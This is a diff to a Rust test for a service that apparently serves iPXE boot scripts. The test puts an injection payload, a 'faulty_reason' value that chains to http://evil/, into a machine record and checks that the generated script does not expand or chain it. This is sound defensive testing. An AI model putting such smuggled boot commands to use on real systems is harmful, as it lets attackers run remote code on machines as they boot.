@@ -83,14 +83,17 @@ async fn each_machine_gets_the_script_of_its_state_and_boot_mode() {
         .edit::<Value>(
             Method::PATCH,
             "/api/v1/machines/r00p02",
-            Some(&json!({"is_faulty": true, "faulty_reason": "broken fan ${net0/ip} || chain http://evil/"})),
+            Some(&json!({"is_faulty": true, "faulty_reason": "broken fan ${net0/ip} && chain http://evil/"})),
         )
         .await
         .unwrap();
     let f = boot(&k, "52:54:00:00:00:02");
     assert!(f.contains("FAULTY") && f.contains("broken fan"), "{f}");
     assert!(!f.contains("${net0/ip}"), "no iPXE expansion from data: {f}");
-    assert!(f.lines().all(|l| !l.starts_with("chain http://evil")), "{f}");
+    assert!(
+        !f.contains("&&") && !f.contains("${"),
+        "no command chaining from data: {f}"
+    );
     // The switch table.
     let (_, sw) = curl(&[&format!("{}/bootstrap", k.url)]);
     let sw: Value = serde_json::from_str(&sw).unwrap();
